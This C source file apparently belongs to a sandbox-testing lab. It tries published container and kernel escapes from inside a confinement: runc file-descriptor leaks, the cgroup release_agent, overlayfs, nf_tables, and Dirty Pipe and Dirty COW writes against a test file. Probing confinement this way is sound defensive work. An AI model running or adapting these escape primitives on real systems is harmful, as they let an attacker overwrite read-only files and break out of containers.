/*
 * Published escapes, one attempt each that can be tried from within. Those that need a program outside to be fooled stand in
 * scenes.c; those that were a whole class of attempts already (TIOCSTI, abstract sockets, handles) in their class.
 *
 * SPDX-License-Identifier: Apache-2.0
 */
#include "lab.h"

#include <dirent.h>
#include <linux/netlink.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>

#define TEST "deep/tests/test_it.py"

/* runc: the program that entered the container is opened by /proc, and written once it is no longer running. */
static bool cve_2019_5736_program_of_parent(void)
{
	char path[64];
	int fd = open(parent("exe"), O_PATH);

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return fd >= 0 && opens(path, O_RDONLY);
}
static bool cve_2019_5736_own_program(void)
{
	int fd = open("/proc/self/exe", O_RDONLY);

	return fd >= 0 && fchmod(fd, 0755) == 0;
}

/* runc, Leaky Vessels: a descriptor of a folder outside is left open, and becomes the working directory. */
static bool cve_2024_21626_folder_by_descriptor(void)
{
	char path[64];

	for (int i = 3; i < 100; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d/../victim", i);
		if (access(path, F_OK) == 0)
			return true;
	}
	return false;
}
static bool cve_2024_21626_folder_above(void)
{
	for (int i = 0; i < 32; i++)
		(void)!chdir("..");
	return holds_secret(under(&lab.home[1], ".netrc"));
}

/* cgroup v1: a program named there runs outside, as root, when the last process of a group is gone. */
static bool cve_2022_0492_release_agent(void)
{
	static const char *const controllers[] = { "rdma", "memory", "pids", "freezer", "blkio", "devices", NULL };

	(void)!unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
	mkdir("cgroup", 0755);
	for (int i = 0; controllers[i]; i++)
		if (mount("x", "cgroup", "cgroup", 0, controllers[i]) == 0) {
			umount2("cgroup", MNT_DETACH);
			return true;
		}
	return false;
}

/* Dirty Pipe: a pipe's buffer that is a page of a read-only file takes what is written next. */
static bool cve_2022_0847_dirty_pipe(void)
{
	static char room[65536];
	int p[2], fd = open(TEST, O_RDONLY);
	loff_t at = 0;

	if (fd < 0 || pipe(p) < 0)
		return false;
	(void)!write(p[1], room, sizeof(room));
	(void)!read(p[0], room, sizeof(room));
	if (splice(fd, &at, p[1], NULL, 1, 0) != 1)
		return false;
	(void)!write(p[1], "XXX", 3);
	return pread(fd, room, 4, 0) == 4 && !memcmp(room + 1, "XXX", 3);
}

/* Dirty COW: a private copy is thrown away while it is written by way of /proc. */
static bool cve_2016_5195_dirty_cow(void)
{
	int fd = open(TEST, O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
	char *p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0), text[4];

	if (fd < 0 || p == MAP_FAILED)
		return false;
	for (int i = 0; i < 2000; i++) {
		(void)!pwrite(mem, "XXX", 3, (off_t)(uintptr_t)p);
		madvise(p, 4096, MADV_DONTNEED);
	}
	return pread(fd, text, 3, 0) == 3 && !memcmp(text, "XXX", 3);
}

/* The file system context whose size was computed wrongly; and all the others behind the same door. */
static bool cve_2022_0185_file_system_context(void)
{
	int fd = (int)syscall(SYS_fsopen, "ext4", 0);

	return fd >= 0;
}

/* nf_tables: half of the local root exploits of some years, open to whoever makes a network namespace. */
static bool cve_2024_1086_netfilter_tables(void)
{
	return unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0 && socket(AF_NETLINK, SOCK_RAW, 12) >= 0;
}

/* Overlays made by users: capabilities of files copied up. */
static bool cve_2023_0386_overlay_of_ones_own(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return false;
	mkdir("lower", 0755);
	mkdir("upper", 0755);
	mkdir("work", 0755);
	mkdir("merged", 0755);
	return mount("x", "merged", "overlay", 0, "lowerdir=lower,upperdir=upper,workdir=work") == 0;
}

/* unix_gc, and AF_UNIX's out-of-band byte: not refused, but a socket passed within itself must be collected. */
static bool cve_2021_0920_descriptor_in_flight_to_outside(void)
{
	union {
		struct cmsghdr head;
		char room[CMSG_SPACE(sizeof(int))];
	} c = { .head = { CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS } };
	struct sockaddr to[8] = { { .sa_family = AF_UNIX } };
	struct iovec v = { (void *)(uintptr_t)"x", 1 };
	struct msghdr m = { .msg_name = to, .msg_iov = &v, .msg_iovlen = 1, .msg_control = c.room, .msg_controllen = sizeof(c.room) };
	int fd = open("/", O_RDONLY);

	memcpy(CMSG_DATA(&c.head), &fd, sizeof(fd));
	memcpy((char *)to + 3, lab.abstract_datagram, strlen(lab.abstract_datagram));
	m.msg_namelen = (socklen_t)(3 + strlen(lab.abstract_datagram));
	return sendmsg(socket(AF_UNIX, SOCK_DGRAM, 0), &m, 0) == 1;
}

static const struct attempt list[] = {
	T(cve_2019_5736_program_of_parent, SHOWN) T(cve_2019_5736_own_program, BY_ROOT) T(cve_2024_21626_folder_by_descriptor, SHOWN)
	T(cve_2024_21626_folder_above, SHOWN) T(cve_2022_0492_release_agent, IN_SPACE_IF_CAN) T(cve_2022_0847_dirty_pipe, IF_CAN)
	T(cve_2016_5195_dirty_cow, IF_CAN) T(cve_2022_0185_file_system_context, IN_SPACE) T(cve_2024_1086_netfilter_tables, IF_CAN)
	T(cve_2023_0386_overlay_of_ones_own, IF_CAN) T(cve_2021_0920_descriptor_in_flight_to_outside, SHOWN)
};

const struct attempts escapes = { "escapes", list, sizeof(list) / sizeof(*list) };
